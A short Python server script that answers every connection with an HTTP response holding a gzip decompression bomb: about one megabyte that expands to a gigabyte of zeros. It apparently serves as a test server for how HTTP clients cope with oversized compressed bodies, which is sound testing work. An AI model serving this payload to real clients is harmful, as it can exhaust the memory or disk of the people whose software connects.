"""Answers everything with a megabyte of gzip that holds a gigabyte."""

import socket
import zlib

from listener import HEAD, ask, serve

squeeze = zlib.compressobj(9, wbits=31)
bomb = b"".join(squeeze.compress(bytes(1 << 20)) for _ in range(1024)) + squeeze.flush()


def answer(connection: socket.socket) -> None:
    ask(connection)
    connection.sendall(HEAD + b"%d\r\nContent-Encoding: gzip\r\n\r\n" % len(bomb) + bomb)


serve(answer)
